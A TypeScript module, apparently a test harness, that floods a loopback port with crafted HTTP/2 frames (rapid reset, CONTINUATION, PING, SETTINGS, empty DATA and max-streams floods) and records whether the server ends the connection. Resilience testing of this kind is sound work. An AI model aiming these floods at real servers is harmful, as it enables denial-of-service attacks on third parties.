import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { flags, frame, headBlock, preface, readFrameTypes, types } from "./h2-frames.ts";

/** What a flood came to. */
export type Flood = {
  /** Frames that were sent, over all connections. */
  readonly sent: number;
  readonly connections: number;
  /** Connections that the other side ended, or told that it would. */
  readonly ended: number;
};

/** What a flood is made of. */
export type FloodOptions = {
  readonly kind: string;
  /** Frames, or streams where each is more than one. */
  readonly n: number;
  readonly port: number;
  /** The longest that it goes on. */
  readonly maxMs: number;
  /** The loopback address that it comes from. */
  readonly from?: string;
};

/** Whether there is a flood of the kind. */
export function isFloodKind(kind: string): boolean {
  return Object.hasOwn(floods, kind);
}

/**
 * Floods a port with frames, and begins anew where a connection is ended, as an attacker would. What comes back is
 * not read while frames are taken, so that answers pile up where they may.
 */
export async function flood({ kind, n, port, maxMs, from }: FloodOptions): Promise<Flood> {
  const untilMs = performance.now() + maxMs;
  let [sent, connections, ended] = [0, 0, 0];
  while (sent < n && connections < maxConnections && performance.now() < untilMs) {
    const one = await floodOnce(floods[kind]!, n - sent, { port, from }, untilMs);
    connections += 1;
    sent += one.sent;
    if (one.isEnded) ended += 1;
    // Whoever refuses connections is not attacked any further by trying.
    if (one.sent === 0) break;
  }
  return { sent, connections, ended };
}

const maxConnections = 200;

/** Frames by the number of the one that is next on its connection. */
type FramesAt = (index: number) => readonly Buffer[];

const request = (stream: number, set: number) =>
  frame({
    type: types.headers,
    flags: set,
    stream,
    payload: headBlock([
      [":method", "POST"],
      [":scheme", "http"],
      [":path", "/datajetty.dashboards.v1.DashboardsService/Render"],
      [":authority", "attack.test"],
      ["content-type", "application/grpc"],
      ["te", "trailers"],
    ]),
  });

/** Clients' streams have odd numbers. */
const streamAt = (index: number) => 2 * index + 1;

const floods: Readonly<Record<string, FramesAt>> = {
  rapid_reset: (index) => [
    request(streamAt(index), flags.endHeaders | flags.endStream),
    frame({ type: types.resetStream, stream: streamAt(index), payload: Buffer.of(0, 0, 0, 8) }),
  ],
  continuation: (index) => [
    index === 0
      ? request(1, 0)
      : frame({ type: types.continuation, stream: 1, payload: headBlock([[`x-${index}`, "a"]]) }),
  ],
  ping: () => [frame({ type: types.ping, payload: Buffer.alloc(8) })],
  settings: () => [frame({ type: types.settings })],
  empty_data: (index) => [
    index === 0 ? request(1, flags.endHeaders) : frame({ type: types.data, stream: 1, payload: Buffer.alloc(0) }),
  ],
  max_streams: (index) => [request(streamAt(index), flags.endHeaders)],
};

/** Frames that go out in one write. */
const batch = 500;

/** How long nothing may be taken before what came back is read. */
const stuckMs = 500;

/** How long the end of a connection is waited for once all is sent. */
const endMs = 1_500;

type Way = { readonly port: number; readonly from: string | undefined };

async function floodOnce(framesAt: FramesAt, n: number, { port, from }: Way, untilMs: number) {
  const socket = connect({ port, host: "127.0.0.1", ...(from !== undefined && { localAddress: from }) });
  const gone = new Promise<void>((resolve) => socket.once("close", () => resolve()));
  socket.on("error", () => {});
  await Promise.race([once(socket, "connect").catch(() => {}), gone]);
  socket.pause();
  socket.write(preface());
  let sent = 0;
  while (sent < n && !socket.destroyed && performance.now() < untilMs) {
    const size = Math.min(batch, n - sent);
    const frames = Array.from({ length: size }, (_, at) => framesAt(sent + at)).flat();
    const taken = socket.write(Buffer.concat(frames));
    if (!taken && !(await within(stuckMs, Promise.race([once(socket, "drain").catch(() => {}), gone])))) break;
    sent += size;
    // Lets what the other side says be seen.
    await new Promise(setImmediate);
  }
  const isEnded = await seesEnd(socket, gone);
  socket.destroy();
  return { sent: socket.bytesWritten === 0 ? 0 : sent, isEnded };
}

/** Reads until a GOAWAY or the end. */
async function seesEnd(socket: Socket, gone: Promise<void>): Promise<boolean> {
  let rest: Buffer = Buffer.alloc(0);
  const toldToGo = new Promise<void>((resolve) => {
    socket.on("data", (chunk: Buffer) => {
      const bytes = Buffer.concat([rest, chunk]);
      const read = readFrameTypes(bytes);
      rest = bytes.subarray(read.usedBytes);
      if (read.types.includes(types.goAway)) resolve();
    });
  });
  return within(endMs, Promise.race([toldToGo, gone, once(socket, "end").catch(() => {})]));
}

async function within(ms: number, event: Promise<unknown>): Promise<boolean> {
  let timer: NodeJS.Timeout | undefined;
  const late = new Promise<false>((resolve) => {
    timer = setTimeout(() => resolve(false), ms);
  });
  const came = await Promise.race([event.then(() => true as const), late]);
  clearTimeout(timer);
  return came;
}
